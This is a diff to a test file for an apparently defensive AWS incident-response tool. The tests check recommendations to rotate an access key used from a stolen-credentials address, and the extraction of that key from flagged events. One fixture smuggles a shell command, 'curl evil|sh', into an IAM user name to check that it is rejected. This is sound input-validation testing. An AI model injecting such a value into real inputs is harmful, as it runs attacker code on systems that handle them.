@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest'
+import type { JournalEntry } from '../../../src/core/case/journal.js'
+import { keyUsedFromStolenAddress } from '../../../src/core/credentials/role-use.js'
 import { type AdviceInput, recommend } from '../../../src/core/report/advice.js'
 import { viewJournal } from '../../../src/core/report/journal-view.js'
 import type { FindingView } from '../../../src/core/report/model.js'
@@ -35,6 +37,7 @@ function input(timelineFindings: FindingView[]): AdviceInput {
     timelineSourceKinds: ['api'],
     timelineTotalEvents: 100,
     chainedAssumeRoles: [],
+    keysFromStolenAddress: [],
   }
 }
 
@@ -64,5 +67,73 @@ describe('recommendations', () => {
       )
       expect(rec?.because).toEqual([`${f.title} (6)`])
     }
+  })
+
+  it('recommend rotating a key used from where the role was stolen to, until fir rotated its user', () => {
+    const leaked = {
+      accessKeyId: 'AKIARZPUZDIKKKHME4PR',
+      userName: 'ci-deployer',
+      sourceIps: ['203.0.113.45'],
+    }
+    const title =
+      'Rotate the long-term access key used from the address that used the stolen role credentials'
+    const rec = recommend({ ...input([]), keysFromStolenAddress: [leaked] }).find((r) => r.title === title)
+    expect(rec?.priority).toBe(1)
+    expect(rec?.because).toEqual(['AKIARZPUZDIKKKHME4PR (user ci-deployer) from 203.0.113.45'])
+    expect(rec?.command).toBe('fir creds rotate-key --user ci-deployer --access-key AKIARZPUZDIKKKHME4PR')
+    const rotation = (outcome: string, user: string) =>
+      ({
+        seq: 1,
+        at: '2026-11-29T13:07:00.000Z',
+        actor: { arn: null, osUser: 'r', host: 'h', command: [] },
+        action: 'credentials.rotate-key',
+        target: `arn:aws:iam::123456789012:user/${user}`,
+        params: {},
+        outcome,
+        prev: '0',
+        hash: '0',
+      }) as unknown as JournalEntry
+    const titles = (entries: JournalEntry[]) =>
+      recommend({ ...input([]), journal: viewJournal(entries), keysFromStolenAddress: [leaked] }).map(
+        (r) => r.title,
+      )
+    expect(titles([rotation('applied', 'ci-deployer')])).not.toContain(title)
+    expect(titles([rotation('failed', 'ci-deployer')])).toContain(title)
+    expect(titles([rotation('applied', 'backup-admin')])).toContain(title)
+  })
+})
+
+describe('keyUsedFromStolenAddress', () => {
+  const event = (over: Record<string, unknown>) => ({
+    name: 'UpdateFunctionCode',
+    actor: { arn: 'arn:aws:iam::123456789012:user/deploy/ci-deployer', accessKeyId: 'AKIARZPUZDIKKKHME4PR' },
+    sourceIp: '203.0.113.45',
+    findings: [{ rule: 'fir-timeline-call-from-stolen-credentials-address', level: 'high' }],
+    ...over,
+  })
+
+  it('names the long-term key and its user of an event the correlation flagged', () => {
+    expect(keyUsedFromStolenAddress(event({}))).toEqual({
+      accessKeyId: 'AKIARZPUZDIKKKHME4PR',
+      userName: 'ci-deployer',
+      sourceIp: '203.0.113.45',
+    })
+  })
+
+  it('ignores other findings, session keys, and user names IAM could not have made', () => {
+    expect(keyUsedFromStolenAddress(event({ findings: [{ rule: 'other' }] }))).toBeNull()
+    expect(
+      keyUsedFromStolenAddress(
+        event({
+          actor: { arn: 'arn:aws:sts::123456789012:assumed-role/r/s', accessKeyId: 'ASIAEXAMPLE000000001' },
+        }),
+      ),
+    ).toBeNull()
+    const hostile = keyUsedFromStolenAddress(
+      event({
+        actor: { arn: 'arn:aws:iam::123456789012:user/x;curl evil|sh', accessKeyId: 'AKIARZPUZDIKKKHME4PR' },
+      }),
+    )
+    expect(hostile).toEqual({ accessKeyId: 'AKIARZPUZDIKKKHME4PR', userName: null, sourceIp: '203.0.113.45' })
   })
 })
